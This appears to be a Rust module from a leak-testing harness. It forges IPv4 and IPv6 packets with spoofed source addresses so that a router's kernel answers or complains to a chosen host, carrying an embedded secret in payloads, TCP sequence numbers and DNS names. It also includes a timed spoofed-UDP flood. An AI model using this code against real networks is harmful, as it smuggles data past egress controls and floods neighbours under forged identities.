//! Making a router's kernel speak by itself: packets that it complains about, or answers, to a
//! source that we made up. What it says quotes what we sent; where its answer has a way out, so has
//! the secret.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{Context as _, bail};

use crate::link::{Frames, Link};
use crate::packets::{
    ACK, DONT_FRAGMENT, FRAGMENT, HOP_BY_HOP, ICMP, ICMPV6, MORE_FRAGMENTS, SYN, TCP, UDP, V4,
    dns_question, icmp, ip, neighbour, tcp, udp, v6, v6_fragment, v6_options,
};

/// A port that nobody listens on.
const NOBODY: u16 = 7777;
/// The gateway's own IPv4 address.
const DUMMY: Ipv4Addr = Ipv4Addr::new(192, 0, 0, 8);
/// All nodes of a link, and all routers.
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
const ALL_ROUTERS: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 2);
/// The unassigned option whose top bits say: whoever doesn't know it must complain to the source,
/// even about multicast.
const COMPLAIN: u8 = 0x9e;

/// Sends one trigger's packets. `target` is whom the kernel is to speak to: the source that the
/// packets claim.
pub(crate) fn speak(trigger: &str, target: IpAddr, secret: &str) -> anyhow::Result<()> {
    if trigger == "question" {
        return question(target, secret);
    }
    let link = Link::look("eth0")?;
    let frames = link.open()?;
    let sent = match target {
        IpAddr::V4(target) => Speaker {
            link: &link,
            frames: &frames,
            target,
            secret,
        }
        .v4(trigger)?,
        IpAddr::V6(target) => Speaker {
            link: &link,
            frames: &frames,
            target,
            secret,
        }
        .v6(trigger)?,
    };
    println!("{trigger}: {sent} packets in the name of {target}");
    Ok(())
}

/// A DNS question to `target` through a plain socket: needs no capability.
fn question(target: IpAddr, secret: &str) -> anyhow::Result<()> {
    let any: IpAddr = if target.is_ipv4() {
        Ipv4Addr::UNSPECIFIED.into()
    } else {
        Ipv6Addr::UNSPECIFIED.into()
    };
    for number in 0..3 {
        let socket = UdpSocket::bind((any, 0))?;
        socket.send_to(
            &dns_question(number, &format!("{number}.{secret}.x")),
            (target, 53),
        )?;
    }
    println!("question: 3 sent to {target}");
    Ok(())
}

/// Keeps sending datagrams in the names of 200 neighbours of `target` until the time is over or the
/// link is gone.
pub(crate) fn flood(target: IpAddr, secret: &str, length: Duration) -> anyhow::Result<()> {
    let IpAddr::V4(target) = target else {
        bail!("an IPv4 address, please")
    };
    let link = Link::look("eth0")?;
    let frames = link.open()?;
    let [a, b, c, _] = target.octets();
    let names = (1..=200).map(|last| Ipv4Addr::new(a, b, c, last));
    let packets: Vec<Vec<u8>> = names
        .flat_map(|name| {
            [DUMMY, Ipv4Addr::new(198, 51, 100, 10)]
                .map(|to| datagram(name.into(), to.into(), secret))
        })
        .collect();
    println!("flooding");
    let (end, mut sent) = (Instant::now() + length, 0_u64);
    'all: while Instant::now() < end {
        for packet in &packets {
            if frames.send(packet).is_err() {
                break 'all;
            }
            sent += 1;
        }
    }
    println!("flood: {sent} sent");
    Ok(())
}

fn datagram(from: IpAddr, to: IpAddr, secret: &str) -> Vec<u8> {
    ip(
        from,
        to,
        UDP,
        &udp((from, 1111).into(), (to, NOBODY).into(), secret.as_bytes()),
    )
}

struct Speaker<'a, A> {
    link: &'a Link,
    frames: &'a Frames,
    target: A,
    secret: &'a str,
}

impl Speaker<'_, Ipv4Addr> {
    fn v4(&self, trigger: &str) -> anyhow::Result<usize> {
        let (target, secret) = (self.target, self.secret.as_bytes());
        // Whom the packets go to: the router itself, its side of the link, somebody allowed, and
        // somebody beyond.
        let everyone = [
            DUMMY,
            self.link.gateway,
            Ipv4Addr::new(198, 51, 100, 10),
            self.link.v4,
            target,
        ];
        let at = |address: Ipv4Addr, port: u16| SocketAddr::new(address.into(), port);
        let data = |to: Ipv4Addr| udp(at(target, 1111), at(to, NOBODY), secret);
        let header = |to: Ipv4Addr, protocol: u8| V4::new(target, to, protocol);
        let with_options = |options: &[u8]| -> Vec<Vec<u8>> {
            let build = |to| {
                V4 {
                    options: options.to_vec(),
                    ..header(to, UDP)
                }
                .around(&data(to))
            };
            everyone.map(build).to_vec()
        };
        let packets: Vec<Vec<u8>> = match trigger {
            "first-fragment" => everyone
                .map(|to| {
                    let whole = udp(at(target, 1111), at(to, NOBODY), &padded(self.secret, 512));
                    V4 {
                        fragment: MORE_FRAGMENTS,
                        ..header(to, UDP)
                    }
                    .around(&whole)
                })
                .to_vec(),
            "closed-port" => everyone
                .map(|to| header(to, UDP).around(&data(to)))
                .to_vec(),
            "last-hop" => everyone
                .map(|to| {
                    V4 {
                        ttl: 1,
                        ..header(to, UDP)
                    }
                    .around(&data(to))
                })
                .to_vec(),
            "too-big" => everyone
                .map(|to| {
                    let whole = udp(at(target, 1111), at(to, NOBODY), &padded(self.secret, 1472));
                    V4 {
                        fragment: DONT_FRAGMENT,
                        ..header(to, UDP)
                    }
                    .around(&whole)
                })
                .to_vec(),
            // A record route whose pointer points nowhere, a timestamp likewise, loose and strict
            // source routes.
            "bad-option" => [
                [7, 7, 3, 0, 0, 0, 0, 0],
                [68, 8, 1, 0, 0, 0, 0, 0],
                [131, 7, 4, 203, 0, 113, 77, 0],
                [137, 7, 4, 203, 0, 113, 77, 0],
                [130, 3, 0, 0, 0, 0, 0, 0],
            ]
            .iter()
            .flat_map(|options| with_options(options))
            .collect(),
            "protocol" => everyone.map(|to| header(to, 253).around(secret)).to_vec(),
            "reset" => self.segments(&everyone, &[NOBODY, 80, 443, 53], ACK),
            "handshake" => self.segments(&everyone, &[80, 443, 53], SYN),
            // Echo, timestamp, information and address mask requests, with the secret behind the
            // header.
            "ping" => [(8, 0), (13, 0), (15, 0), (17, 0)]
                .iter()
                .flat_map(|kind| {
                    everyone.map(|to| {
                        header(to, ICMP).around(&icmp(
                            (target.into(), to.into()),
                            *kind,
                            [0, 1, 0, 1],
                            secret,
                        ))
                    })
                })
                .collect(),
            _ => bail!("no such trigger over IPv4"),
        };
        packets
            .iter()
            .try_for_each(|packet| self.frames.send(packet))?;
        Ok(packets.len())
    }
}

impl Speaker<'_, Ipv6Addr> {
    fn v6(&self, trigger: &str) -> anyhow::Result<usize> {
        let (target, secret) = (self.target, self.secret.as_bytes());
        let allowed = Ipv6Addr::new(0x2001, 0xdb8, 1, 0, 0, 0, 0, 0x10);
        let own = self.link.v6.context("no IPv6 address")?;
        let everyone = [allowed, ALL_NODES, own, router_of(self.link.gateway_mac)];
        let at = |address: Ipv6Addr, port: u16| SocketAddr::new(address.into(), port);
        let data = |to: Ipv6Addr| udp(at(target, 1111), at(to, NOBODY), secret);
        let stranger = Ipv6Addr::from(0xfe80_u128 << 112 | u128::from(rand::random::<u64>()));
        let packets: Vec<Vec<u8>> = match trigger {
            // The proxy's answer goes to a link-local address that nobody has, in the name of
            // `target`.
            "unreachable-source" => {
                let name = format!("{}.x", self.secret);
                let question = udp(at(stranger, 1111), at(target, 53), &dns_question(7, &name));
                vec![v6(stranger, target, UDP, 64, &question)]
            }
            "option" => [HOP_BY_HOP, 60]
                .iter()
                .flat_map(|header| {
                    everyone.map(|to| {
                        v6(
                            target,
                            to,
                            *header,
                            64,
                            &v6_options(UDP, COMPLAIN, &[], &data(to)),
                        )
                    })
                })
                .collect(),
            "far-solicitation" => everyone
                .map(|to| {
                    v6(
                        target,
                        to,
                        ICMPV6,
                        64,
                        &neighbour((target, to), 135, to, self.link.mac, secret),
                    )
                })
                .to_vec(),
            "first-fragment" => everyone
                .map(|to| {
                    let whole = udp(at(target, 1111), at(to, NOBODY), &padded(self.secret, 504));
                    v6(target, to, FRAGMENT, 64, &v6_fragment(UDP, 1, &whole))
                })
                .to_vec(),
            "closed-port" => everyone
                .map(|to| v6(target, to, UDP, 64, &data(to)))
                .to_vec(),
            "last-hop" => everyone
                .map(|to| v6(target, to, UDP, 1, &data(to)))
                .to_vec(),
            "protocol" => everyone.map(|to| v6(target, to, 253, 64, secret)).to_vec(),
            "ping" => everyone
                .map(|to| {
                    v6(
                        target,
                        to,
                        ICMPV6,
                        64,
                        &icmp((target.into(), to.into()), (128, 0), [0, 1, 0, 1], secret),
                    )
                })
                .to_vec(),
            // Questions whose answers go to the made-up source, or to everyone: NDP for the
            // gateway's own addresses, routers, and listeners.
            "neighbour-question" => {
                let solicited = everyone.map(|to| {
                    let group = Ipv6Addr::from(
                        0xff02_0000_0000_0000_0000_0001_ff00_0000 | u128::from(to) & 0xff_ffff,
                    );
                    v6(
                        target,
                        group,
                        ICMPV6,
                        255,
                        &neighbour((target, group), 135, to, self.link.mac, secret),
                    )
                });
                let kinds = [(133, ALL_ROUTERS), (130, ALL_NODES)];
                let asked = kinds.map(|(kind, to)| {
                    v6(
                        target,
                        to,
                        ICMPV6,
                        255,
                        &icmp((target.into(), to.into()), (kind, 0), [0; 4], secret),
                    )
                });
                solicited.into_iter().chain(asked).collect()
            }
            "reset" => self.segments(&everyone, &[NOBODY, 80, 443, 53], ACK),
            "handshake" => self.segments(&everyone, &[80, 443, 53], SYN),
            _ => bail!("no such trigger over IPv6"),
        };
        packets
            .iter()
            .try_for_each(|packet| self.frames.send(packet))?;
        Ok(packets.len())
    }
}

impl<A: Into<IpAddr> + Copy> Speaker<'_, A> {
    /// Segments to every port of everyone. The secret is in the numbers too, eight bytes at a time:
    /// answers repeat those.
    fn segments<T: Into<IpAddr> + Copy>(
        &self,
        everyone: &[T],
        ports: &[u16],
        flags: u8,
    ) -> Vec<Vec<u8>> {
        let (target, secret) = (self.target.into(), self.secret.as_bytes());
        let number = |at: usize| {
            secret
                .get(at..at + 4)
                .map_or(0, |four| u32::from_be_bytes(four.try_into().expect("four")))
        };
        let pairs = everyone.iter().flat_map(|to| {
            ports
                .iter()
                .map(move |port| SocketAddr::new((*to).into(), *port))
        });
        pairs
            .map(|to| {
                let from = SocketAddr::new(target, 1111);
                ip(
                    target,
                    to.ip(),
                    TCP,
                    &tcp(from, to, flags, (number(0), number(4)), secret),
                )
            })
            .collect()
    }
}

/// The link-local address of the router's side of the link, as kernels make it from the hardware
/// address (RFC 4291).
fn router_of(mac: [u8; 6]) -> Ipv6Addr {
    let [a, b, c, d, e, f] = mac;
    let pair = |high: u8, low: u8| u16::from_be_bytes([high, low]);
    Ipv6Addr::new(
        0xfe80,
        0,
        0,
        0,
        pair(a ^ 2, b),
        pair(c, 0xff),
        pair(0xfe, d),
        pair(e, f),
    )
}

/// The secret, again and again.
fn padded(secret: &str, length: usize) -> Vec<u8> {
    secret.bytes().cycle().take(length).collect()
}
